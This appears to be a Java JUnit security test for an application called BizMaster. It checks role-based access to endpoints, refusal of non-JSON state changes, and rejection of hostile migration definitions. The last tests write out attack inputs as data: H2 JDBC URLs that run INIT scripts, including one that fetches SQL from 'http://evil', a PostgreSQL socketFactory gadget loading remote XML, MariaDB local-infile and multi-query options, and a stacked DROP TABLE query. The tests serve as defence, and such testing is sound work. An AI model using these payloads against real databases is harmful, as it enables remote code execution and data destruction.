package io.bizmaster.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.bizmaster.testing.ApiClient;
import io.bizmaster.testing.ApplicationFolder;
import io.bizmaster.testing.RunningApplication;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.actuate.endpoint.web.PathMappedEndpoints;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpMethod;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.client.RestTestClient;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

/**
 * Every REST handler and every Actuator endpoint, found in the running application (so a new one cannot be
 * forgotten), asked as nobody, as a viewer, as an appcenter and as an operator: anonymous gets 401, a viewer reads but
 * changes nothing (403), an appcenter only posts commands, an operator may do everything; a state change whose body
 * is not JSON or YAML (what a page in the operator's browser can post without asking) is refused.
 */
class ApiSecurityTest extends RunningApplication {

    private static final ApplicationFolder OWN = ApplicationFolder.create("bizmaster-security");
    private static final Map<String, String> PASSWORDS = Map.of("ops", "ops-secret-1", "view", "view-secret-2",
            "shop", "shop-secret-3");

    @DynamicPropertySource
    static void configuredUsers(DynamicPropertyRegistry registry) {
        OWN.register(registry);
        user(registry, "ops", "operator");
        user(registry, "view", "viewer");
        user(registry, "shop", "appcenter");
    }

    private static void user(DynamicPropertyRegistry registry, String name, String role) {
        try {
            Path file = OWN.data().resolve(name + ".password");
            Files.writeString(file, PASSWORDS.get(name) + "\n");
            registry.add("bizmaster.security.users." + name + ".password-file", file::toString);
            registry.add("bizmaster.security.users." + name + ".roles", () -> role);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    @Autowired
    PathMappedEndpoints actuator;

    @LocalServerPort
    int port;

    private ApiClient anonymous;
    private ApiClient viewer;
    private ApiClient appcenter;
    private ApiClient operator;

    @BeforeEach
    void clients() {
        anonymous = new ApiClient(port, null, null);
        viewer = new ApiClient(port, "view", PASSWORDS.get("view"));
        appcenter = new ApiClient(port, "shop", PASSWORDS.get("shop"));
        operator = new ApiClient(port, "ops", PASSWORDS.get("ops"));
    }

    private record Call(HttpMethod method, String path) {
        boolean changes() {
            return method != HttpMethod.GET && method != HttpMethod.HEAD;
        }
    }

    /** Every handler method BizMaster maps, with its path variables filled in. */
    private List<Call> handlers() {
        List<Call> calls = new ArrayList<>();
        for (Map.Entry<RequestMappingInfo, HandlerMethod> entry : mappings.getHandlerMethods().entrySet()) {
            RequestMappingInfo info = entry.getKey();
            if (!entry.getValue().getBeanType().getPackageName().startsWith("io.bizmaster")) {
                continue; // Spring Boot's own error controller: deliberately public
            }
            Set<org.springframework.web.bind.annotation.RequestMethod> methods = info.getMethodsCondition().getMethods();
            for (String pattern : info.getPathPatternsCondition().getPatternValues()) {
                String path = pattern.replaceAll("\\{seq}", "1").replaceAll("\\{[^}]+}", "x");
                if (methods.isEmpty()) {
                    calls.add(new Call(HttpMethod.GET, path));
                }
                methods.forEach(m -> calls.add(new Call(HttpMethod.valueOf(m.name()), path)));
            }
        }
        assertThat(calls).as("the handlers found").hasSizeGreaterThan(20);
        return calls;
    }

    private static int status(ApiClient client, Call call) {
        return (call.method() == HttpMethod.GET ? client.get(call.path()) : client.post(call.path(), "{}")).getStatus().value();
    }

    @Test
    void everyHandlerNeedsCredentialsAndOnlyAnOperatorChangesState() {
        for (Call call : handlers()) {
            assertThat(status(anonymous, call)).as("anonymous " + call).isEqualTo(401);
            if (call.changes()) {
                assertThat(status(viewer, call)).as("viewer " + call).isEqualTo(403);
                if (!call.path().equals("/api/commands")) {
                    assertThat(status(appcenter, call)).as("appcenter " + call).isEqualTo(403);
                }
            } else {
                assertThat(status(viewer, call)).as("viewer " + call).isNotIn(401, 403);
                assertThat(status(appcenter, call)).as("appcenter " + call).isEqualTo(403);
            }
            assertThat(status(operator, call)).as("operator " + call).isNotIn(401, 403);
        }
    }

    @Test
    void everyActuatorEndpointNeedsAViewerButHealthSaysUpOrDownToAnyone() throws Exception {
        ObjectMapper json = new ObjectMapper();
        List<String> paths = new ArrayList<>(actuator.getAllPaths());
        paths.add("/actuator");
        assertThat(paths).contains("/actuator/health", "/actuator/metrics");
        for (String path : paths) {
            Call call = new Call(HttpMethod.GET, path);
            if (path.equals("/actuator/health")) {
                JsonNode publicHealth = json.readTree(anonymous.get(path).getResponseBody());
                assertThat(publicHealth.path("status").asString()).isIn("UP", "DOWN");
                assertThat(publicHealth.has("components") || publicHealth.has("details")).as("anonymous health: no details")
                        .isFalse();
                assertThat(json.readTree(viewer.get(path).getResponseBody()).has("components")).isTrue();
            } else {
                assertThat(status(anonymous, call)).as("anonymous " + path).isEqualTo(401);
                assertThat(status(viewer, call)).as("viewer " + path).isEqualTo(200);
            }
            assertThat(status(appcenter, call)).as("appcenter " + path).isIn(403, 200);
        }
        assertThat(status(anonymous, new Call(HttpMethod.GET, "/actuator/health/stores"))).isEqualTo(401);
        assertThat(status(appcenter, new Call(HttpMethod.GET, "/actuator/metrics"))).isEqualTo(403);
    }

    /** What a page in the operator's browser can send without a CORS preflight never reaches a handler. */
    @Test
    void aStateChangeThatIsNotJsonOrYamlIsRefused() {
        RestTestClient http = RestTestClient.bindToServer().baseUrl("http://127.0.0.1:" + port)
                .defaultHeaders(h -> h.setBasicAuth("ops", PASSWORDS.get("ops"))).build();
        for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")) {
            var answer = http.post().uri("/api/migrations").header("Content-Type", type)
                    .body("id: m1\nkind: log\ntarget-log: {url: \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"}\n")
                    .exchange().expectBody(String.class).returnResult();
            assertThat(answer.getStatus().value()).as(type).isEqualTo(415);
            assertThat(answer.getResponseBody()).contains("needs Content-Type application/json");
        }
        var none = http.post().uri("/api/stores/modern/pause").exchange().expectBody(String.class).returnResult();
        assertThat(none.getStatus().value()).isEqualTo(415);
        assertThat(operator.get("/api/stores/modern").getResponseBody()).contains("\"paused\":false");
        assertThat(operator.get("/api/migrations").getResponseBody()).isEqualTo("[]");
    }

    /**
     * A definition cannot smuggle code into BizMaster's JVM: hostile JDBC URLs and a stacked row-mapping query are
     * refused when the migration is created, before anything connects; no database file appears, no migration is kept.
     */
    @Test
    void hostileUrlsAndAStackedQueryAreRefusedAtCreateWithNothingRun() throws Exception {
        Path evil = OWN.data().resolve("evil");
        List<String> hostile = List.of(
                "jdbc:h2:file:" + evil + ";INIT=CREATE TABLE PWNED(X INT)",
                "jdbc:h2:file:" + evil + ";init=RUNSCRIPT FROM 'http://127.0.0.1:1/x.sql'",
                "jdbc:h2:file:" + evil + ";\u0131n\u0131t=CREATE TABLE PWNED(X INT)",
                "jdbc:h2:file:" + evil + ";LOCK_TIMEOUT=1000\\;CREATE TABLE PWNED(X INT)",
                "jdbc:h2:file:" + evil + ";TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:evil",
                "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://127.0.0.1:1/x.xml",
                "jdbc:postgresql://127.0.0.1:5432/test?loggerFile=/tmp/pwned.log",
                "jdbc:mariadb://127.0.0.1:3306/test?allowLocalInfile=true",
                "jdbc:mariadb://127.0.0.1:3306/test?allowMultiQueries=true");
        for (String url : hostile) {
            var answer = operator.post("/api/migrations", "id: evil\nkind: log\ntarget-log: {url: '" + url.replace("'", "''")
                    + "'}\n");
            assertThat(answer.getStatus().value()).as(url).isEqualTo(400);
            assertThat(answer.getResponseBody()).as(url).contains("target-log.url");
        }
        var stacked = operator.post("/api/migrations", "id: evil\nsource: legacy\ntarget: modern\nbackfill: snapshot\n"
                + "mapping:\n  - {table: customers, key: id, query: \"SELECT ID AS id FROM CUSTOMER; DROP TABLE CUSTOMER\"}\n");
        assertThat(stacked.getStatus().value()).isEqualTo(400);
        assertThat(stacked.getResponseBody()).contains("mapping[0].query");
        try (var files = Files.list(OWN.data())) {
            assertThat(files.map(f -> f.getFileName().toString())).noneMatch(name -> name.startsWith("evil"));
        }
        assertThat(operator.get("/api/migrations").getResponseBody()).isEqualTo("[]");
        assertThat(stores.get("legacy").connection().getMetaData().getTables(null, null, "CUSTOMER", null).next())
                .as("CUSTOMER still there").isTrue();
    }

    @Test
    void anAppCenterPostsCommandsAndNothingElse() {
        assertThat(appcenter.post("/api/commands", "{\"id\":\"sec-1\",\"type\":\"customer.renamed\",\"key\":\"sec-c1\","
                + "\"payload\":{\"name\":\"X\"}}").getStatus().value()).isEqualTo(202);
        assertThat(viewer.post("/api/commands", "{}").getStatus().value()).isEqualTo(403);
        assertThat(new ApiClient(port, "shop", "wrong").get("/api/stores").getStatus().value()).isEqualTo(401);
        assertThat(appcenter.get("/api/stores").getStatus().value()).isEqualTo(403);
    }
}
